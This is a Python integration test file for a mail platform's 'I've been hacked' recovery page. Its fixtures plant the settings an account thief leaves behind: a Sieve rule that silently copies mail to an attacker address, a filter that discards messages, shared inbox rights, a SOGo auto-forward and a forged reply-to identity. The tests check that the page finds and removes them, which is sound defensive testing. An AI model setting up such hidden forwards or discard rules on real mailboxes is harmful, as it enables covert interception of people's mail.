"""« J’ai été piraté » on the lab: what an attacker left in box and webmail is found, and goes if the owner wants."""

import json
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from malleposte.policy import rules

from tests.stack.support.accounts_cli import Cli
from tests.stack.support.groupware import Groupware
from tests.stack.support.mail import Mail, compose, token
from tests.stack.support.site import Account, Site
from tests.stack.support.visitor import Visitor
from tests.stack.support.web import Web
from tests.support.page import Page

pytestmark = pytest.mark.together("portal-forms")

KEPT = "probe2"
"""An agent whom the owner keeps in a folder; the attacker let in the other."""


BLOCK = """
import sys
from pathlib import Path
sys.path.insert(0, "/usr/lib/malleposte/malleposte.pyz")
from malleposte.accounts.mailbox import senders
senders.change(next(Path("/srv/mail").glob("*/" + sys.argv[1])), senders.Edit(block=("aide.test",)))
"""
"""Blocks a sender in the place of an agent."""


def headings(page: Page) -> list[str]:
    """The headings of what was found, in order."""
    return [words for _held, words in page.all("h3")]


def choices(page: Page, keep: str) -> dict[str, str]:
    """All is removed but what names `keep`."""
    names = dict.fromkeys(str(held["name"]) for held, _text in page.all("input") if held.get("type") == "radio")
    cards = [text for _held, text in page.all("li") if "Supprimer" in text and "Garder" in text]
    return {name: "keep" if keep in card else "remove" for name, card in zip(names, cards, strict=True)}


def account_after_theft(mail: Mail, account: Account, script: str, attacker: str) -> None:
    """Leave a forward, a filter that deletes, and an inbox that is open to two others."""
    text = f'require ["copy"];\nif header :is "x-test" "a" {{ redirect :copy "{attacker}"; }}\n'
    text += f'if header :contains "subject" "secret-{account.uid}" {{ discard; stop; }}\n'
    mail.set_filter(account, script, text)
    mail.site.run("mail1", "/usr/bin/python3", "-I", "-B", "-", account.uid, given=BLOCK)
    session = mail.imap(account)
    for who in ("probe1", KEPT):
        assert session.setacl("INBOX", who, "lr")[0] == "OK"


def shared(site: Site, ca_bundle: Path, account: Account, attacker: str) -> Groupware:
    """Leave the same in SOGo's own settings, and an agenda that is open."""
    visitor = Groupware(site, ca_bundle, account).login()
    assert visitor.get(visitor.own("Calendar/personal/addUserInAcls?uid=probe1")).status in (200, 204)
    told = visitor.get(visitor.own("jsonDefaults")).json()
    told["Forward"] = {"enabled": 1, "forwardAddress": [attacker], "keepCopy": 1}
    saved = visitor.post(visitor.own("Preferences/save"), {"defaults": told, "settings": {}})
    assert saved.status == 200, saved.text
    mine = {
        "email": account.mail,
        "isDefault": 1,
        "fullName": "Le rectorat",
        "replyTo": attacker,
        "signature": "<p>Payez</p>",
    }
    given = shlex.quote(json.dumps({"SOGoMailIdentities": [mine]}))
    site.run(
        "mail1", f"runuser -u sogo -- sogo-tool user-preferences set defaults {account.uid} SOGoMailIdentities {given}"
    )
    return visitor


def signed(site: Site, account: Account, attacker: str) -> None:
    """Leave the identity that an attacker would make in Roundcube."""
    site.run("mail1", "runuser -u postgres -- psql -AtXq roundcube -f -", given=f"""
        INSERT INTO users (username, mail_host) VALUES ('{account.uid}', 'localhost');
        INSERT INTO identities (user_id, changed, standard, email, name, "reply-to", signature)
        SELECT user_id, now(), 1, '{account.mail}', 'Le rectorat', '{attacker}', 'Payez' FROM users
        WHERE username = '{account.uid}';""")  # fmt: skip


def opened_by(site: Site, ca_bundle: Path, mail: Mail, person: Any, who: Account, profile: str) -> Any:
    """A colleague who has opened the inbox to an agent, and in SOGo the agenda and the mail."""
    colleague = person(mpProfile=[profile])
    if profile == "convergence":
        theirs = Groupware(site, ca_bundle, colleague.account).login()
        for path in (f"Calendar/personal/addUserInAcls?uid={who.uid}", f"Mail/0/addDelegate?uid={who.uid}"):
            assert theirs.get(theirs.own(path)).status in (200, 204), path
    assert mail.imap(colleague.account).setacl("INBOX", who.uid, "lr")[0] == "OK"
    return colleague


OTHERS = {"roundcube": ["box", "their-folder"], "convergence": ["box", "their-agenda", "their-folder", "their-mail"]}


@pytest.mark.parametrize("profile", [pytest.param("roundcube", marks=pytest.mark.full), "convergence"])
def test_what_others_opened_is_named_to_the_agent_and_to_the_operator(
    site: Site, web: Web, ca_bundle: Path, person: Any, people: Any, mail: Mail, profile: str
) -> None:
    who, stranger, new = person(mpProfile=[profile]), person(), rules.generate()
    box, other = people.box(who.uid), people.box(stranger.uid)
    colleague = opened_by(site, ca_bundle, mail, person, who.account, profile)
    name = colleague.held("cn")["cn"][0]

    told = Cli(site).json("block", who.uid, "--reason", "essai")["others"]
    assert [one["kind"] for one in told] == OTHERS[profile]
    assert told[0]["what"] == box.mail and {one["who"] for one in told[1:]} == {name}
    assert Cli(site).json("block", stranger.uid, "--reason", "essai")["others"] == [
        {"kind": "box", "what": other.mail, "who": other.name}
    ]

    visitor = Visitor(site, web)
    page = visitor.send("/pirate", numen=who.numen, code=who.code(), new=new, again=new)
    text = page.main
    assert "Ce que l’intrus a pu lire chez d’autres" in text
    assert box.mail in text and name in text and other.mail not in text
    assert len(headings(page)) == len(told), "nothing was left, so nothing is asked"
    text = visitor.send("/pirate/verification").main
    assert "prévenez-les" in text and "Aucun réglage n’est supprimé" in text
    assert who.held("mpOpens") == {"mpOpens": [box.uid]}


def identity(site: Site, account: Account, profile: str) -> list[str]:
    """The sender's name, the address of answers and the signature of an agent's messages."""
    if profile == "convergence":
        asked = f"SELECT c_defaults::json -> 'SOGoMailIdentities' FROM sogo_user_profile WHERE c_uid = '{account.uid}';"
        (mine,) = json.loads(site.run("mail1", "runuser -u sogo -- psql -AtX sogo -f -", given=asked))
        return [mine.get(name) or "" for name in ("fullName", "replyTo", "signature")]
    asked = f"""SELECT concat_ws('|', name, "reply-to", signature) FROM identities WHERE email = '{account.mail}';"""
    return site.run("mail1", "runuser -u postgres -- psql -AtX roundcube -f -", given=asked).strip().split("|")


@pytest.mark.parametrize("profile", ["roundcube", pytest.param("convergence", marks=pytest.mark.full)])
def test_what_an_attacker_left_goes_and_what_the_owner_keeps_stays(
    site: Site, web: Web, ca_bundle: Path, person: Any, mail: Mail, enters: Any, profile: str
) -> None:
    who, new, attacker = person(mpProfile=[profile]), rules.generate(), f"{token()}@lointain.test"
    made = Cli(site).json("device", "add", who.uid, "--name", "Téléphone du voleur")
    if profile == "convergence":
        shared(site, ca_bundle, who.account, attacker)
    else:
        signed(site, who.account, attacker)
    account_after_theft(mail, who.account, "sogo" if profile == "convergence" else "roundcube", attacker)
    visitor, code = Visitor(site, web), who.code()
    page = visitor.send("/pirate", numen=who.numen, code="AAAA2222", new=new, again=new)
    assert (visitor.status, who.held("mpBlockedUntil")) == (403, {})

    page = visitor.send("/pirate", numen=who.numen, code=code, new=new, again=new)
    text = page.main
    assert "1 mot de passe d’appareil est supprimé" in text and attacker in text
    assert enters(who.uid, new)
    assert not enters(who.uid, who.account.password)
    assert not enters(who.uid, made["password"])
    assert who.held("mpBlockedUntil", "mpState")["mpState"] == ["active"]
    expected = ["Un renvoi automatique", "Un filtre qui supprime des messages", *["Un dossier de courrier partagé"] * 2]
    expected += ["Une liste d’expéditeurs", "Une signature", "Un nom d’expéditeur", "Une adresse de réponse"]
    expected += ["Un agenda ou un carnet d’adresses partagé"] * (profile == "convergence")
    assert sorted(headings(page)) == sorted(expected)

    page = visitor.send("/pirate/verification", **choices(page, KEPT))
    text = page.main
    assert "1 réglage est gardé" in text, text
    account = replace(who.account, password=new)
    rights = b" ".join(mail.imap(account).getacl("INBOX")[1])
    assert KEPT.encode() in rights and b"probe1" not in rights
    scripts = site.run("mail1", f"cat /srv/mail/*/{who.uid}/sieve/*.sieve")
    assert "redirect" not in scripts and "discard" not in scripts and "x-test" in scripts
    assert site.run("mail1", f"find /srv/mail/*/{who.uid}/ -name senders.sieve") == ""
    subject = f"secret-{who.uid}"
    mail.foreign("ami@lointain.test", account.mail, compose("ami@lointain.test", account.mail, subject))
    assert mail.arrived(account, subject), "the script is still one, and deletes no more"
    if profile == "convergence":
        told = Groupware(site, ca_bundle, account).login()
        assert told.get(told.own("jsonDefaults")).json()["Forward"]["enabled"] in (0, False)
        shares = f"SELECT count(*) FROM sogo_acl WHERE c_object LIKE '/{who.uid}/%'"
        assert site.run("mail1", "runuser -u sogo -- psql -AtX sogo -f -", given=f"{shares};").strip() == "0"
    assert identity(site, account, profile) == [who.held("cn")["cn"][0], "", ""]
    told_lines = " ".join(lines_of(site, who.uid))
    assert f"renvoi: {attacker}" in told_lines and "dossier partagé: user=probe1" in told_lines


def lines_of(site: Site, uid: str) -> list[str]:
    """The notes of accountd's journal about what was removed from an account."""
    text = site.run("mail1", "cat /var/log/malleposte-accountd/accounts.jsonl")
    held = [json.loads(line) for line in text.splitlines() if f'"{uid}"' in line]
    return [str(one["note"]) for one in held if one["action"] == "trace-removed"]
